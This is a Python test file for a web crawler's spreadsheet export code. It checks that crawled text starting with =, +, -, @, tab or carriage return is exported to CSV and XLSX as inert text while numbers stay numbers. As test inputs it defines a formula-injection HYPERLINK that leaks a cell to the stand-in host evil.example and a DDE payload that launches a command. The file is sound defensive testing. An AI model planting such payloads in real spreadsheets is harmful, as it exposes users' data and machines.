"""Crawled text that a spreadsheet would run as a formula is exported as inert text."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from crawler.exports.cells import FORMULA_START, neutralize
from crawler.exports.query import ExportedReport
from crawler.exports.writers import open_writer, table_paths

HOSTILE_AGENCY = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
HOSTILE_TITLE = "+cmd|' /C calc'!A0"


def _report() -> ExportedReport:
    moment = datetime(2024, 3, 1, 8, 0, tzinfo=UTC)
    return ExportedReport(
        report_id=7, agency=HOSTILE_AGENCY, region="", host="@x.gov.cn", year=2023,
        template="2021", title=HOSTILE_TITLE, published_on=date(2024, 1, 20),
        deadline=date(2024, 3, 31), late=False, status="live", checks_total=1, checks_failed=1,
        n_versions=1, n_documents=1, source_url="-http://x.gov.cn/a.pdf", sha256="ab" * 32,
        content_type="application/pdf", fetched_at=moment, warc_file="w.warc.gz",
        warc_record_id="\t<urn:uuid:1>", parser_version="1", first_seen_at=moment,
        last_seen_at=moment,
        parse={"active_disclosure": {"regulations": {"made": 2.0, "repealed": 0.0,
                                                     "in_force": -3.0}},
               "checks": [{"rule": "=1+1", "where": "\r3", "ok": False, "expected": -5,
                           "actual": 4}]},
    )


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_neutralize_text_that_starts_a_formula(text: str) -> None:
    assert neutralize(text) == "'" + text


def test_neutralize_leaves_plain_text_and_numbers() -> None:
    assert neutralize("XX县人民政府") == "XX县人民政府"
    assert neutralize(-3) == -3 and neutralize(-2.5) == -2.5
    assert neutralize(None) is None
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}


def test_csv_cells_are_inert_and_numbers_stay_numbers(tmp_path: Path) -> None:
    out = tmp_path / "reports.csv"
    writer = open_writer("csv", out)
    writer.add(_report())
    writer.close()
    paths = table_paths(out)
    with paths["reports"].open(encoding="utf-8-sig", newline="") as handle:
        wide = list(csv.DictReader(handle))[0]
    assert wide["agency"] == "'" + HOSTILE_AGENCY
    assert wide["title"] == "'" + HOSTILE_TITLE
    assert wide["host"] == "'@x.gov.cn" and wide["source_url"].startswith("'-")
    assert wide["warc_record_id"] == "'\t<urn:uuid:1>"
    assert wide["active_disclosure.regulations.in_force"] == "-3.0"  # a number: not escaped
    with paths["values"].open(encoding="utf-8-sig", newline="") as handle:
        values = list(csv.DictReader(handle))
    assert {v["agency"] for v in values} == {"'" + HOSTILE_AGENCY}
    assert [v["value"] for v in values if v["column"] == "in_force"] == ["-3.0"]
    with paths["checks"].open(encoding="utf-8-sig", newline="") as handle:
        check = list(csv.DictReader(handle))[0]
    assert (check["rule"], check["where"], check["expected"]) == ("'=1+1", "'\r3", "-5")
    for path in paths.values():  # no cell anywhere starts a formula
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in list(csv.reader(handle))[1:]:
                for value in row:
                    assert not value.startswith(FORMULA_START) or _is_number(value), value


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_xlsx_writes_text_as_text_never_as_formula(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "reports.xlsx"
    writer = open_writer("xlsx", out)
    writer.add(_report())
    writer.close()
    book = load_workbook(out)
    seen_formula_text = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    seen_formula_text += 1
    assert seen_formula_text >= 2  # the agency (reports and values sheets) and the rule, as text
    reports = book["reports"]
    header = [c.value for c in reports[1]]
    row = [c.value for c in reports[2]]
    assert row[header.index("agency")] == HOSTILE_AGENCY
    assert row[header.index("active_disclosure.regulations.in_force")] == -3.0
    checks = book["checks"]
    assert [c.value for c in checks[2]][6] == -5
